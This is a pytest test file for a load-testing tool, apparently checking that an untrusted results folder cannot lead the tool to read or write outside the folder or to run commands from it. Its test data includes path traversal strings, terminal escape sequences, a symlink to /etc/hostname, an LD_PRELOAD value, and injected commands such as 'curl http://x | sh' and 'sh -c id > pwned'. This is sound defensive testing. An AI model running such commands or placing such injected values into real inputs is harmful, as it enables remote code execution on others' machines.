"""A folder of somebody else's: nothing outside of it is read or written, and nothing of it run."""

from __future__ import annotations

import dataclasses
import json
import os
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import demo
import msgspec
import pytest
from builders import LOAD, agent, endpoint, loaded, machine, outcome, part, plan, run, server
from client_facts import cold, group, row, warm
from client_facts import plan as clients_plan
from client_facts import run as clients_run
from command_line import Type
from hostile_folder import whole

from loadtest.measure.clients import resume as clients_resume
from loadtest.measure.servers.new_run import make_run, this_machine
from loadtest.measure.servers.preflight import checks
from loadtest.measure.servers.resume import check_resumable
from loadtest.plan import interpreters
from loadtest.plan.servers import inventory
from loadtest.plan.servers.inventory import Inventory
from loadtest.records import agreement, clients, privacy, run_folder
from loadtest.records.clients import Answer, Interpreter
from loadtest.records.errors import UserError
from loadtest.records.measured import (
    Engine,
    Histogram,
    Loaded,
    Outcome,
    Part,
    Placement,
    Run,
    Sent,
    Source,
)
from loadtest.records.planned import Cell, Choice, Goal, Load, Server
from loadtest.records.run_folder import CLIENTS, OUTCOMES, SERVERS, Writer, create, read

pytestmark = pytest.mark.usefixtures("no_addresses")

SPARSE_BYTES = 2**33


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return create(tmp_path / "results", run())


def append(folder: Path, line: bytes) -> None:
    with open(folder / OUTCOMES, "ab") as file:
        file.write(line + b"\n")


def as_fifo(path: Path) -> None:
    os.mkfifo(path)


def as_link(path: Path) -> None:
    path.symlink_to("/etc/hostname")


def as_device(path: Path) -> None:
    path.symlink_to("/dev/zero")


def as_folder(path: Path) -> None:
    path.mkdir()


def as_sparse(path: Path) -> None:
    with open(path, "wb") as file:
        file.truncate(SPARSE_BYTES)


NOT_FILES = (as_fifo, as_link, as_device, as_folder, as_sparse)


@pytest.mark.parametrize("name", [SERVERS.file, OUTCOMES])
@pytest.mark.parametrize("make", NOT_FILES)
def test_what_is_no_file_of_its_own_is_not_read(
    make: Callable[[Path], None], name: str, folder: Path, type_: Type
) -> None:
    (folder / name).unlink(missing_ok=True)
    make(folder / name)
    for words in (["report", folder], ["report", "--out", folder.parent], ["run", "--resume"]):
        done = type_(*words, *([folder] if words[-1] == "--resume" else []))
        assert done.status == 2
        (line,) = done.lines
        assert f"{folder / name}: cannot be read: it is " in line


@pytest.mark.parametrize("field", ["raw", "histogram"])
@pytest.mark.parametrize("make", NOT_FILES)
def test_what_an_outcome_names_is_a_file_of_the_folder(
    make: Callable[[Path], None], field: str, folder: Path
) -> None:
    make(folder / "raw" / "x.json")
    append(folder, msgspec.json.encode(outcome(**{field: "raw/x.json"})))
    with pytest.raises(UserError, match=r"raw/x\.json: cannot be read: it is "):
        read(folder, SERVERS)


def test_a_folder_of_raw_files_is_no_link(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "x.json").write_text('{"values_us":[1],"counts":[1]}')
    (folder / "raw").rmdir()
    (folder / "raw").symlink_to(tmp_path)
    append(folder, msgspec.json.encode(outcome(histogram="raw/x.json")))
    with pytest.raises(UserError, match="cannot be read: its folder is a link"):
        read(folder, SERVERS)


@pytest.mark.parametrize("field", ["raw", "histogram"])
@pytest.mark.parametrize(
    "path",
    ["/etc/hostname", "../run.json", "raw/../run.json", "raw/x/y", "run.json", "", "raw/"]
    + ["raw/\0", "raw/\n", "raw/\x1b]0;x", "raw/\u202ex", f"raw/{'x' * 300}"],
)
def test_a_path_that_leads_elsewhere_is_left_out(field: str, path: str, folder: Path) -> None:
    append(folder, json.dumps(msgspec.to_builtins(outcome()) | {field: path}).encode())
    stored = read(folder, SERVERS)
    assert stored.outcomes == ()
    (note,) = stored.notes
    assert note.startswith("outcomes.jsonl, line 1: damaged, dropped; ")


@pytest.mark.parametrize("name", [OUTCOMES, "raw", "logs", "raw/a.txt", "logs/a.log"])
def test_nothing_is_written_through_a_link(name: str, folder: Path, tmp_path: Path) -> None:
    theirs = tmp_path / "theirs"
    if name in ("raw", "logs"):
        theirs.mkdir()
        (folder / name).rmdir()
    else:
        theirs.write_text("kept, and not torn")
    (folder / name).symlink_to(theirs)
    with pytest.raises(UserError, match="a link"):
        Writer(folder)
    assert theirs.is_dir() or theirs.read_text() == "kept, and not torn"


@pytest.mark.parametrize("name", ["index.html", "report.md", "summary.csv"])
def test_a_report_is_not_written_through_a_link(
    name: str, folder: Path, tmp_path: Path, type_: Type
) -> None:
    theirs = tmp_path / "theirs"
    theirs.write_text("kept")
    append(folder, msgspec.json.encode(outcome(loaded=loaded(2_000), load_s=1.0)))
    (folder / name).symlink_to(theirs)
    (folder / f".{name}.part").symlink_to(theirs)
    done = type_("report", folder)
    assert done.status == 2
    assert "it is a link; move what is there, then try again" in done.lines[-1]
    (folder / name).unlink()
    assert type_("report", folder).status == 0
    assert theirs.read_text() == "kept"


@pytest.mark.parametrize("name", ["raw/a.txt", "logs/a.log"])
def test_nor_into_a_file_that_has_a_second_name(name: str, folder: Path, tmp_path: Path) -> None:
    """Logs are appended to."""
    (tmp_path / "theirs").write_text("kept")
    (folder / name).hardlink_to(tmp_path / "theirs")
    with pytest.raises(UserError, match=r"a link, or a hard link .*; copy the run with `cp -rL "):
        Writer(folder)


def test_outcomes_with_a_second_name_are_not_appended_to(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "theirs").write_text("kept")
    (folder / OUTCOMES).hardlink_to(tmp_path / "theirs")
    with pytest.raises(UserError, match="a link, or a hard link"):
        Writer(folder)
    assert (tmp_path / "theirs").read_text() == "kept"


def test_a_history_is_not_written_through_a_link(type_: Type, tmp_path: Path) -> None:
    for _ in range(2):
        folder = create(tmp_path / "runs", run())
        append(folder, msgspec.json.encode(outcome(loaded=loaded(2_000), load_s=1.0)))
    (tmp_path / "theirs").mkdir()
    (tmp_path / "runs" / "history").symlink_to(tmp_path / "theirs")
    done = type_("report", "--history", tmp_path / "runs")
    assert done.status == 2
    assert "it is a link; move what is there, then try again" in done.lines[-1]
    assert list((tmp_path / "theirs").iterdir()) == []


def test_a_run_that_a_link_leads_to_is_not_below_a_folder(type_: Type, tmp_path: Path) -> None:
    """It lies elsewhere, and nobody named it."""
    theirs = create(tmp_path / "elsewhere", run())
    (tmp_path / "runs").mkdir()
    (tmp_path / "runs" / "a").symlink_to(theirs)
    assert run_folder.runs_below(tmp_path / "runs", SERVERS) == []
    ours = create(tmp_path / "runs", run())
    assert run_folder.newest(tmp_path / "runs") == ours
    for words in (["report", "--out"], ["report", "--history"]):
        done = type_(*words, tmp_path / "runs")
        assert f"left out: {tmp_path}/runs/a: it is a link" in done.err


def runs_of(parent: Path, number: int) -> None:
    """Make so many runs below a folder, each of one load."""
    for _ in range(number):
        folder = create(parent, run())
        append(folder, msgspec.json.encode(outcome(loaded=loaded(2_000), load_s=1.0)))


def test_a_history_is_of_the_newest_runs(
    type_: Type, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A folder of somebody else may have any number of them."""
    monkeypatch.setattr("loadtest.cli.history.MOST_RUNS", 2)
    runs_of(tmp_path / "runs", 3)
    done = type_("report", "--history", tmp_path / "runs", "--json")
    assert "left out: 1 older run; the history has the newest 2\n" in done.err
    assert len(json.loads(done.out)["runs"]) == 2


def test_a_history_is_of_as_many_runs_as_are_read_in_seconds(
    type_: Type, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("loadtest.cli.history.MOST_BYTES", 1_000)
    runs_of(tmp_path / "runs", 4)
    words = ["report", "--history", tmp_path / "runs", "--json"]
    done = type_(*words)
    assert "left out: 2 older runs; the history has the newest 2; type --last 4 for" in done.err
    assert len(json.loads(done.out)["runs"]) == 2
    done = type_(*words, "--last", "3")
    assert len(json.loads(done.out)["runs"]) == 3
    done = type_(*words, "--last", "4")
    assert "left out" not in done.err
    assert len(json.loads(done.out)["runs"]) == 4
    assert type_("report", "--last", "4").status == 2


def test_latencies_that_no_load_leaves_are_refused(type_: Type, folder: Path) -> None:
    """Of fewer answers in a bin than were added to it for those above it."""
    (folder / "raw" / "x.json").write_text('{"values_us":[100000,183333],"counts":[1,5]}')
    of = outcome(histogram="raw/x.json", loaded=loaded(100), load_s=1.0)
    append(folder, msgspec.json.encode(of))
    done = type_("report", folder)
    assert done.status == 2
    (line,) = done.lines
    assert line.startswith("loadtest: raw/alpha.json-sync.*.json: these latencies and")


# Names and numbers -------------------------------------------------------------------------------

NAMES = (
    *(("plan", "servers", 0, "name"), ("plan", "cells", 0, "server")),
    *(("plan", "cells", 0, "endpoint", "name"), ("plan", "cells", 0, "endpoint", "kind")),
    *(("plan", "matrix"), ("plan", "reference")),
)


def put(facts: Any, path: tuple[Any, ...], value: Any) -> Any:
    *way, last = path
    at = facts
    for step in way:
        at = at[step]
    at[last] = value
    return facts


@pytest.mark.parametrize("path", NAMES)
@pytest.mark.parametrize(
    "name", ["\x1b[2J", "\0", "\x9b2J", "a\nb", "\u202e", "\u2028", "\ufffe", "../x", "", "x" * 241]
)
def test_a_name_that_no_file_may_have_is_refused(
    path: tuple[Any, ...], name: str, folder: Path
) -> None:
    facts = put(json.loads(json.dumps(whole(SERVERS))), path, name)
    (folder / SERVERS.file).write_text(json.dumps(facts))
    with pytest.raises(UserError, match=r"run\.json: damaged: ") as error:
        read(folder, SERVERS)
    assert error.value.lines[0].isprintable()


@pytest.mark.parametrize("field", ["id", "label", "group"])
@pytest.mark.parametrize("name", ["\x1b[2J", "\u2028", "\ufffe", ""])
def test_a_label_that_nobody_can_print_is_refused(field: str, name: str, tmp_path: Path) -> None:
    facts = put(json.loads(json.dumps(whole(CLIENTS))), ("plan", "rows", 0, field), name)
    (tmp_path / CLIENTS.file).write_text(json.dumps(facts))
    with pytest.raises(UserError, match=r"clients\.json: damaged: "):
        read(tmp_path, CLIENTS)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("plan", "rounds"), 10**6),
        (("plan", "rounds"), 0),
        (("plan", "budget_s"), 1e300),
        (("plan", "shape", "workers"), 10**6),
        (("plan", "shape", "backlog"), -1),
        (("plan", "cells", 0, "load", "connections"), 0),
        (("plan", "cells", 0, "load", "duration_s"), -1),
        (("plan", "cells", 0, "endpoint", "contract", "delay_s"), 5e-324),
        (("plan", "servers", 0, "processes_seen"), "9" * 4_000),
        (("plan", "servers", 0, "processes_seen"), "workers\n"),
        # Each row of a server says them.
        (("plan", "servers", 0, "limits"), ["x" * 1_001]),
        (("plan", "servers", 0, "limits"), ["x"] * 11),
        (("plan", "servers", 0, "requires"), ["x"] * 501),
        (("machine", "versions"), {"v": "1" * 1_001}),
        *(
            (("created_at",), when)
            for when in (
                "",
                "x" * 100_000,
                "\x1b]0;x\x07",
                "2026-01-02",
                "2026-01-02T03:04:05",
                "2026-02-30T00:00:00Z",
                "9999-12-31T00:00:00Z",
                "2026-01-02T03:04:05+25:00",
            )
        ),
        (("command",), "loadtest run quick; curl http://x | sh"),
        (("command",), "sh -c id"),
        (("command",), "loadtest run 'quick"),
        (("command",), "loadtest agent theirs.example:7000 --serves"),
        (("command",), "loadtest run quick --project /tmp/theirs"),
        (("command",), "loadtest run quick --allow-database=127.0.0.1/app"),
        (("plan", "cells", 0, "load", "steps"), [0.5] * 51),
        (("source",), {"file": "x", "sha256": "0", "notes": [""] * 1_001}),
        (("machine", "versions"), {f"v{n}": "1" for n in range(1_001)}),
        (("placement",), {"generator": [0] * 5_000, "services": [], "server": []}),
    ],
)
def test_what_cannot_have_been_planned_is_refused(
    path: tuple[Any, ...], value: Any, folder: Path
) -> None:
    facts = put(json.loads(json.dumps(whole(SERVERS))), path, value)
    (folder / SERVERS.file).write_text(json.dumps(facts))
    with pytest.raises(UserError, match=r"run\.json: damaged: "):
        read(folder, SERVERS)


def test_a_report_of_others_has_no_end_of_rounds(tmp_path: Path) -> None:
    """A table has a field for each round of each cell: of three million it took 2.5 GB."""
    source = Source(file="x.md", sha256="0")
    endpoints = [endpoint(f"e{number}") for number in range(501)]
    create(tmp_path, run(plan(endpoints=endpoints[:500], rounds=1_000), source=source))
    with pytest.raises(UserError, match="501,000 loads, and a run has 500,000 at most"):
        create(tmp_path, run(plan(endpoints=endpoints, rounds=1_000), source=source))


def test_what_the_whole_description_says_is_taken(folder: Path, tmp_path: Path) -> None:
    (folder / SERVERS.file).write_text(json.dumps(whole(SERVERS)))
    assert read(folder, SERVERS).run.plan.rounds == 2
    (tmp_path / CLIENTS.file).write_text(json.dumps(whole(CLIENTS)))
    assert read(tmp_path, CLIENTS).run.plan.rounds == 2


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"round": 10**6}, "damaged"),
        ({"round": -1}, "damaged"),
        ({"turn": 10**9}, "damaged"),
        ({"cell": "nobody.json-sync"}, "of a cell that the plan does not have"),
        ({"load_s": float(2**70)}, "damaged"),
        ({"started_at": -1.0}, "damaged"),
        ({"loaded": msgspec.to_builtins(loaded(10, status_errors=11))}, "more errors than answers"),
        ({"usage": {"server": {"cpu_s": -1.0}}}, "damaged"),
        ({"usage": {"\x1b": {}}}, "damaged"),
    ],
)
def test_an_outcome_that_cannot_be_is_left_out(
    changes: dict[str, Any], why: str, folder: Path
) -> None:
    append(folder, msgspec.json.encode(outcome()))
    append(folder, json.dumps(msgspec.to_builtins(outcome()) | changes).encode())
    stored = read(folder, SERVERS)
    assert stored.outcomes == (outcome(),)
    (note,) = stored.notes
    assert note.startswith(f"outcomes.jsonl, line 2: {why}, dropped; ")


def test_a_round_that_no_run_of_so_many_cells_has_is_left_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """All cells have a place for each round up to the last."""
    monkeypatch.setattr(agreement, "MOST_TOLD", 6)
    of = plan(endpoints=[endpoint("a"), endpoint("b")], rounds=3)
    folder = create(tmp_path, run(of))
    for number in range(5):
        append(folder, msgspec.json.encode(outcome(of.cells[0].id, number)))
    stored = read(folder, SERVERS)
    assert [each.round for each in stored.outcomes] == [0, 1, 2]
    assert all("of a round that no run of so many cells has" in note for note in stored.notes)


def sent(**changes: int) -> Sent:
    late = Histogram(values_us=(0,), counts=(100,))
    return Sent(**{"window_us": 1_000_000, "requests": 100, "missed": 0, "late": late} | changes)  # type: ignore[arg-type]


RATED = msgspec.structs.replace(LOAD, rate=100.0)
SEARCHED = msgspec.structs.replace(LOAD, within=Goal(p99_us=1_000))
OTHERS = msgspec.structs.replace(SEARCHED, rate=5.0, tool="hey")


@pytest.mark.parametrize(
    ("load", "changes", "why"),
    [
        (RATED, {"loaded": loaded(10)}, "at a rate without its schedule"),
        (LOAD, {"loaded": loaded(10, sent=sent())}, "with one and without a rate"),
        (LOAD, {"loaded": loaded(10), "tried": SEARCHED}, "of a search that the plan does not"),
        (SEARCHED, {"loaded": loaded(10)}, "of no load of its search"),
        (SEARCHED, {"tried": SEARCHED, "round": 101}, "of more tries than a search has"),
        # Nobody counts what another tool sends.
        (SEARCHED, {"loaded": loaded(10), "tried": OTHERS}, "of no load of its search"),
        (RATED, {"loaded": loaded(10, sent=sent(requests=101))}, "than its schedule has slots"),
        (RATED, {"loaded": loaded(10, sent=sent(window_us=1_000_001))}, "goes on beyond its load"),
    ],
)
def test_an_outcome_that_its_plan_cannot_have_is_left_out(
    load: Load, changes: dict[str, Any], why: str, tmp_path: Path
) -> None:
    cell = Cell(server="alpha", endpoint=endpoint(), load=load)
    folder = create(tmp_path, run(plan(cells=(cell,))))
    append(folder, msgspec.json.encode(outcome(cell.id, **changes)))
    stored = read(folder, SERVERS)
    assert stored.outcomes == ()
    (note,) = stored.notes
    assert why in note


@pytest.mark.parametrize(
    ("cells", "mix", "why"),
    [
        ([(endpoint(), OTHERS)], None, "is searched, and at one rate or by another tool"),
        (
            [(endpoint(name, share=0.9), LOAD) for name in ("a", "b")],
            "stated",
            "the shares of its endpoints come to 1.8; they are parts of 1",
        ),
        ([(endpoint(), LOAD)], "stated", "json-sync has no share of the site's requests"),
        (
            [(endpoint(delay_s=delay_s), LOAD) for delay_s in (0.0, 1.0)],
            None,
            "json-sync is declared in two ways",
        ),
    ],
)
def test_a_plan_that_contradicts_itself_is_refused(
    cells: list[tuple[Any, Load]], mix: Any, why: str, tmp_path: Path
) -> None:
    servers = [server(name) for name in ("alpha", "beta")]
    pairs = zip(("alpha", "beta"), cells, strict=False)
    of = tuple(Cell(server=name, endpoint=each, load=load) for name, (each, load) in pairs)
    with pytest.raises(UserError, match=why):
        create(tmp_path, run(plan(servers, cells=of, mix=mix)))


PARTS = (part("north"), part("south"))
TOGETHER = loaded(2_000)


@pytest.mark.parametrize(
    ("parts", "whole", "why"),
    [
        ((part("north"), part("east")), TOGETHER, "of agents that the run does not have"),
        ((part("north"), part("north", raw="raw/x")), TOGETHER, "or of the same one twice"),
        ((part("north"), part("south", raw="raw/north.txt")), TOGETHER, "wrote the same file"),
        (PARTS, loaded(2_001), "of more or fewer answers than its agents had"),
        (PARTS, None, "of more or fewer answers than its agents had"),
        ((part("north"), part("south", connections=5)), TOGETHER, "of more or fewer connections"),
        ((part("north", raw="../x"),), loaded(1_000), "damaged"),
    ],
)
def test_parts_that_no_agent_of_the_run_had_are_left_out(
    parts: tuple[Part, ...], whole: Loaded | None, why: str, tmp_path: Path
) -> None:
    folder = create(tmp_path, run(agents=(agent("north"), agent("south"))))
    append(folder, msgspec.json.encode(outcome(loaded=TOGETHER, parts=PARTS)))
    append(folder, msgspec.json.encode(outcome(number=1, loaded=whole, parts=parts)))
    stored = read(folder, SERVERS)
    assert [each.round for each in stored.outcomes] == [0]
    assert any(why in note for note in stored.notes)


def test_agents_that_cannot_have_been_are_refused(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="two agents called north"):
        create(tmp_path, run(agents=(agent("north"), agent("north"))))
    for changes in (
        {"launcher": "agent", "agents": (agent("north"),)},
        {"served_by": agent("north"), "agents": (agent("north"),)},
        {"launcher": "agent", "served_by": agent("north")},
    ):
        with pytest.raises(UserError, match="agent that started the servers"):
            create(tmp_path, run(**changes))


def test_a_part_without_its_histogram_is_noted(tmp_path: Path) -> None:
    folder = create(tmp_path, run(agents=(agent("north"), agent("south"))))
    (folder / "raw" / "north.json").write_text('{"values_us":[1],"counts":[1000]}')
    append(folder, msgspec.json.encode(outcome(loaded=TOGETHER, parts=PARTS)))
    stored = read(folder, SERVERS)
    assert [part.histogram for part in stored.outcomes[0].parts] == ["raw/north.json", None]
    assert stored.histogram("raw/north.json").counts == (1_000,)
    assert stored.notes == (
        "raw/south.json: missing; alpha.json-sync is shown without its latencies",
    )
    append(folder, msgspec.json.encode(outcome(number=1, loaded=TOGETHER, parts=PARTS)))
    first, second = read(folder, SERVERS).outcomes
    assert [part.histogram for part in first.parts] == [None, None]
    assert second.parts[0].histogram == "raw/north.json"


def test_slots_that_were_never_sent_are_no_contradiction(tmp_path: Path) -> None:
    """Of a busy machine every other load was left out, and its cell measured again."""
    cell = Cell(server="alpha", endpoint=endpoint(), load=RATED)
    folder = create(tmp_path, run(plan(cells=(cell,))))
    append(folder, msgspec.json.encode(outcome(cell.id, loaded=loaded(10, sent=sent(requests=99)))))
    stored = read(folder, SERVERS)
    assert (len(stored.outcomes), stored.notes) == (1, ())


@pytest.mark.parametrize(
    ("fact", "why"),
    [
        (cold(row(), warm=warm(row()).warm), "of two measures at once"),
        (warm(row(), cold=cold(row()).cold), "of two measures at once"),
        (warm(row("httpx"), 0), "of a measure that its row does not have"),
    ],
)
def test_an_outcome_of_a_client_is_of_one_planned_measure(
    fact: clients.Outcome, why: str, tmp_path: Path
) -> None:
    of = clients_plan(
        [row(), row("httpx", group="cold")], [group(), group("cold", measures=("cold",))]
    )
    folder = create(tmp_path, clients_run(of))
    append(folder, msgspec.json.encode(fact))
    stored = read(folder, CLIENTS)
    assert stored.outcomes == ()
    (note,) = stored.notes
    assert why in note


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ([{"python": None}], "aiohttp-0 has no python, and no reason to be skipped"),
        (
            [{"answer": Answer(body_bytes=99_000_000 + n)} for n in range(11)],
            "bodies of 1,089,000,055 bytes",
        ),
    ],
)
def test_rows_that_nobody_could_measure_are_refused(
    changes: list[dict[str, Any]], why: str, tmp_path: Path
) -> None:
    rows = [row(f"aiohttp {at}", **change) for at, change in enumerate(changes)]
    with pytest.raises(UserError, match=f"cannot be measured: {why}"):
        create(tmp_path, clients_run(clients_plan(rows)))


@pytest.mark.parametrize("of", [{"a": "a"}, {"a": "b", "b": "a"}, {"a": None, "b": "a", "c": "b"}])
def test_a_duplicate_is_of_what_is_none(of: dict[str, str | None], tmp_path: Path) -> None:
    servers = [server(name, duplicate_of=other) for name, other in of.items()]
    with pytest.raises(UserError, match=r"cannot be measured: . is a duplicate of the duplicate"):
        create(tmp_path, run(plan(servers)))


def test_a_file_that_many_name_is_read_for_the_last(folder: Path) -> None:
    """It was written anew; and a folder could have each of its outcomes take as long."""
    (folder / "raw" / "x.json").write_text('{"values_us":[1],"counts":[1]}')
    for number in range(3):
        append(folder, msgspec.json.encode(outcome(number=number, histogram="raw/x.json")))
    names = [each.histogram for each in read(folder, SERVERS).outcomes]
    assert names == [None, None, "raw/x.json"]


def test_of_more_latencies_than_are_read_in_time_the_first_are(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(run_folder, "MOST_LATENCIES_BYTES", 25_000)
    for number in range(5):
        (folder / "raw" / f"{number}.json").write_text('{"values_us":[1],"counts":[1]}')
        append(folder, msgspec.json.encode(outcome(number=number, histogram=f"raw/{number}.json")))
    stored = read(folder, SERVERS)
    names = [each.histogram for each in stored.outcomes]
    assert names == ["raw/0.json", "raw/1.json", None, None, None]
    note = "latencies are those of the first 2 loads: to read the other 3 takes too long"
    assert stored.notes == (note,)


def test_more_numbers_than_fit_into_memory_are_refused(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(run_folder, "MOST_NUMBERS", 5)
    append(folder, msgspec.json.encode(outcome()))
    with pytest.raises(UserError, match=r"outcomes\.jsonl: \d+ numbers, and a run has 5 at most"):
        read(folder, SERVERS)


def test_only_so_many_notes_are_said(folder: Path) -> None:
    for number in range(150):
        missing = outcome(number=number, histogram=f"raw/{number}.json")
        append(folder, msgspec.json.encode(missing))
    notes = read(folder, SERVERS).notes
    assert len(notes) == 101
    assert notes[-1] == "and 50 more that are missing or damaged"


def test_a_log_without_an_end_is_read_in_parts(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(privacy, "BLOCK_BYTES", 10)
    monkeypatch.chdir(folder)
    (folder / "logs" / "x.log").write_bytes(b"0123456789" * 3 + b"\nend")
    privacy.publish(folder / "logs")
    assert (folder / "logs" / "x.log").read_bytes() == b"0123456789" * 3 + b"\nend"


def test_of_logs_without_an_end_both_ends_are_kept(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A server may write any number of lines, and a folder bring them: each would be rewritten."""
    monkeypatch.setattr(privacy, "MOST_LOGS_BYTES", 400)
    monkeypatch.setattr(privacy, "BLOCK_BYTES", 40)
    monkeypatch.chdir(folder)
    numbers = b"".join(b"line %04d\n" % number for number in range(1_000))
    for name in ("a", "b"):
        (folder / "logs" / f"{name}.log").write_bytes(numbers)
    privacy.publish(folder / "logs")
    for name in ("a", "b"):
        kept = (folder / "logs" / f"{name}.log").read_bytes()
        assert kept.startswith(b"line 0000\nline 0001\n")
        assert b"\n\n... 9800 bytes left out by loadtest\nline 0" in kept
        assert kept.endswith(b"line 0999\n")
        assert len(kept) < 300


@pytest.mark.parametrize("lines", [b"{}\n" * 1_000, b"\n" * 1_000])
def test_what_is_no_outcomes_file_at_all_is_refused(lines: bytes, folder: Path) -> None:
    (folder / OUTCOMES).write_bytes(lines)
    with pytest.raises(UserError, match=r"outcomes\.jsonl, line 101: over 100 damaged lines"):
        read(folder, SERVERS)


def test_a_run_that_could_not_be_read_back_is_not_begun(tmp_path: Path) -> None:
    plan = msgspec.structs.replace(run().plan, rounds=10**6)
    with pytest.raises(UserError, match=r"cannot be measured: Expected `int` <= 1000 - at"):
        create(tmp_path, run(plan))
    assert list(tmp_path.iterdir()) == []


def test_a_run_of_more_lines_than_are_read_is_not_begun(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="100,000 loads, and a run has 50,000 at most"):
        create(tmp_path, run(plan(rounds=1_000, turns=100)))
    with pytest.raises(UserError, match="99,000 pairs in its tables, and a run has 80,000 at most"):
        create(
            tmp_path,
            run(
                plan(
                    map(server, map("s{}".format, range(100))),
                    map(endpoint, map("e{}".format, range(20))),
                )
            ),
        )
    rows = [row(f"aiohttp {number}") for number in range(30)]
    with pytest.raises(UserError, match="60,000 measurements, and a run has 50,000 at most"):
        create(tmp_path, clients_run(clients_plan(rows, rounds=1_000)))


# Going on ----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def offered() -> Inventory:
    return inventory.take_inventory(demo.PROJECT)


def begun(offered: Inventory) -> Run:
    choice = Choice(matrix="quick", servers=("gunicorn-gthread",), endpoints=("json",))
    return run(inventory.make_plan(offered, choice), machine=this_machine(offered), choice=choice)


def with_server(of: Run, at: int, **changes: Any) -> Run:
    servers: list[Server] = list(of.plan.servers)
    servers[at] = msgspec.structs.replace(servers[at], **changes)
    return msgspec.structs.replace(
        of, plan=msgspec.structs.replace(of.plan, servers=tuple(servers))
    )


def test_a_run_of_the_project_s_own_servers_goes_on(offered: Inventory, tmp_path: Path) -> None:
    of = begun(offered)
    assert [server.duplicate_of for server in of.plan.servers] == [None, "gunicorn-gthread"]
    check_resumable(of, offered, tmp_path)


def test_a_run_goes_on_where_nothing_else_is_reached(offered: Inventory, tmp_path: Path) -> None:
    """Its report says of all of it that nothing else could be."""
    of = msgspec.structs.replace(begun(offered), network="own")
    check_resumable(of, dataclasses.replace(offered, network="own"), tmp_path)
    with pytest.raises(UserError, match="two things: network own then, machine now; begin another"):
        check_resumable(of, dataclasses.replace(offered, network="machine"), tmp_path)


def test_a_run_that_an_agent_served_goes_on_with_the_same_one(
    offered: Inventory, tmp_path: Path
) -> None:
    there = machine(
        memory_bytes=10**12, versions={"Django": "5.2", "gunicorn": "1", "uvicorn": "1"}
    )
    served = dataclasses.replace(
        offered,
        launcher="agent",
        versions=dict(there.versions),
        served_by=agent("north", machine=there),
    )
    makers = (agent("south", machine=machine(versions={"wrk": "4.1.0"})),)
    choice = Choice(servers=("gunicorn-sync", "uvicorn"), endpoints=("json",), agents=1)
    of = make_run(served, choice, tmp_path, makers)
    # What a report says of a machine is said of that of the servers.
    assert of.machine == msgspec.structs.replace(there, versions=there.versions | {"wrk": "4.1.0"})
    assert (of.launcher, of.served_by, of.placement) == ("agent", served.served_by, None)
    assert of.plan.at_once == 3
    assert inventory.at_once(served, 10**6, 1) == 1_500
    assert of.command.endswith("--agents 1 --launcher agent")
    looked = {each.name for each in checks(of.plan, tmp_path, served.project.app, "agent")}
    assert "listen backlog" not in looked  # no server listens here
    with pytest.raises(UserError, match="--pin goes with --launcher local"):
        make_run(served, msgspec.structs.replace(choice, pin=True), tmp_path, makers)
    check_resumable(of, served, tmp_path, makers)
    another = dataclasses.replace(served, served_by=agent("east", machine=there))
    with pytest.raises(UserError, match="servers started by north then, by east now"):
        check_resumable(of, another, tmp_path, makers)


@pytest.mark.parametrize("at", [0, 1])
@pytest.mark.parametrize(
    "changes",
    [
        {"argv": ("sh", "-c", "id > pwned")},
        {"env": {"LD_PRELOAD": "/tmp/x.so"}},
        {"processes": "workers"},
    ],
)
def test_no_command_of_a_folder_is_run(
    changes: dict[str, Any], at: int, offered: Inventory, tmp_path: Path
) -> None:
    of = with_server(begun(offered), at, **changes)
    name = of.plan.servers[at].name
    with pytest.raises(UserError, match=f"server {name} is declared differently now"):
        check_resumable(of, offered, tmp_path)


def test_a_server_that_the_project_does_not_have_is_not_run(
    offered: Inventory, tmp_path: Path
) -> None:
    of = begun(offered)
    stranger = msgspec.structs.replace(of.plan.servers[0], name="stranger")
    plan = msgspec.structs.replace(of.plan, servers=(*of.plan.servers, stranger))
    with pytest.raises(UserError, match="server stranger is declared differently now"):
        check_resumable(msgspec.structs.replace(of, plan=plan), offered, tmp_path)


def test_an_endpoint_that_one_cell_has_otherwise_is_not_asked(
    offered: Inventory, tmp_path: Path
) -> None:
    of = begun(offered)
    cells = list(of.plan.cells)
    endpoint = msgspec.structs.replace(cells[-1].endpoint, path="@elsewhere.example/")
    cells[-1] = msgspec.structs.replace(cells[-1], endpoint=endpoint)
    plan = msgspec.structs.replace(of.plan, cells=tuple(cells))
    with pytest.raises(UserError, match=f"endpoint {endpoint.id} is declared differently now"):
        check_resumable(msgspec.structs.replace(of, plan=plan), offered, tmp_path)


def test_processors_of_a_folder_are_not_pinned_to(offered: Inventory, tmp_path: Path) -> None:
    placed = Placement(generator=(0,), services=(0,), server=(99_999,))
    of = msgspec.structs.replace(begun(offered), placement=placed)
    with pytest.raises(UserError, match="pinned to processors that are not here"):
        check_resumable(of, offered, tmp_path)


def test_no_more_workers_are_started_than_can_be(offered: Inventory, tmp_path: Path) -> None:
    of = begun(offered)
    shape = msgspec.structs.replace(of.plan.shape, workers=1_000)
    of = msgspec.structs.replace(
        of, plan=msgspec.structs.replace(of.plan, shape=shape, at_once=1_000_000)
    )
    with pytest.raises(UserError, match=r"1000000 servers at the same time.* fewer --workers"):
        check_resumable(of, offered, tmp_path)


def test_an_engine_that_a_folder_names_is_not_asked(
    offered: Inventory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from loadtest.cli import run as command
    from loadtest.measure.servers import resume

    monkeypatch.setattr(resume, "check_resumable", lambda *given: None)
    engine = Engine(
        address="tcp://elsewhere.example:2375",
        name="x",
        remote=True,
        version="28",
        system="x",
        processors=2,
        memory_bytes=2**30,
    )
